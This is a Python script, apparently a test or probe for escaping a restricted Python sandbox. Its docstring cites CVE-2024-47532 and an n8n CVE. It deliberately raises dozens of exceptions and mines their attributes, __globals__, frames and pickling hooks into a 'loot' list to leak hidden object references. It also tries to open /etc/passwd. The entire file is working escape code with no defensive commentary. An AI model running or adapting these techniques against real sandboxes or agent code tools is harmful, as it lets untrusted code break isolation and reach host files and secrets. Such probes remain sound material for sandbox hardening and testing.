"""C1, C2: AttributeError.obj, NameError.name, UnicodeError.object, KeyError keys, StopIteration.value and their like (CVE-2024-47532, n8n CVE-2026-0863)."""

import copy, operator

loot = []
NAMES = (
    "obj",
    "name",
    "object",
    "value",
    "args",
    "key",
    "path",
    "name_from",
    "msg",
    "filename",
    "filename2",
    "strerror",
    "code",
    "text",
    "print_file_and_line",
    "__dict__",
    "__notes__",
)


def collect(action):
    try:
        loot.append(action())
    except BaseException:
        pass


def look(error):
    loot.append(error)
    for name in NAMES:
        collect(lambda: getattr(error, name))
        collect(lambda: eval("e." + name, {"e": error}))
        collect(lambda: object.__getattribute__(error, name))
        collect(lambda: vars(type(error))[name].__get__(error))
        collect(lambda: super(type(error), error).__getattribute__(name))
        collect(lambda: operator.attrgetter(name)(error))
        collect(lambda: print(("{0." + name + "}").format(error)) if name == "obj" else None)
    match error:
        case object(obj=found):
            loot.append(found)
    match error:
        case AttributeError(obj=found):
            loot.append(found)
    collect(lambda: error.__getstate__())
    collect(lambda: error.__reduce__())
    collect(lambda: error.__reduce_ex__(4))
    collect(lambda: copy.copy(error))
    collect(lambda: error.__setstate__({"obj": 1}))


class Fake:
    __slots__ = ()


ACTIONS = [
    lambda: print.nothing,
    lambda: get_blog_posts.nothing,
    lambda: get_blog_posts.__globals__,
    lambda: type(print).nothing,
    lambda: object.__new__(type(print)).__name__,
    lambda: object.__new__(type(print))(),
    lambda: repr(object.__new__(type(print))),
    lambda: object.__new__(type(compile("1", "x", "eval"))).x,
    lambda: (x for x in ()).gi_frame,
    lambda: "{0.x}".format(get_blog_posts),
    lambda: operator.attrgetter("x.y")(print),
    lambda: __import__("sys")._getframe().nothing,
    lambda: __import__("math").nothing,
    lambda: __import__("sys").nothing,
    lambda: vars(print),
    lambda: vars(get_blog_posts)["x"],
    lambda: nothing,
    lambda: exec("nothing"),
    lambda: exec("from math import nothing"),
    lambda: exec("import nothing.at.all"),
    lambda: {}[get_blog_posts],
    lambda: next(iter([])),
    lambda: "\ud800".encode(),
    lambda: b"\xff".decode(),
    lambda: str(b"\xff", "utf-8"),
    lambda: bytes("\ud800", "utf-8"),
    lambda: exec("def"),
    lambda: compile("\x00", "x", "exec"),
    lambda: compile(b"\xff", "x", "exec"),
    lambda: exit,
    lambda: open("/etc/passwd"),
    lambda: len(1),
    lambda: get_blog_posts(1, 2, 3),
    lambda: Fake().x,
    lambda: setattr(Fake(), "x", 1),
    lambda: setattr(print, "x", 1),
    lambda: delattr(get_blog_posts, "x"),
    lambda: print.x.y,
    lambda: with_statement(),
    lambda: [*get_blog_posts],
    lambda: get_blog_posts["x"],
]


def with_statement():
    with get_blog_posts:
        pass


for action in ACTIONS:
    try:
        action()
    except BaseException as error:
        look(error)
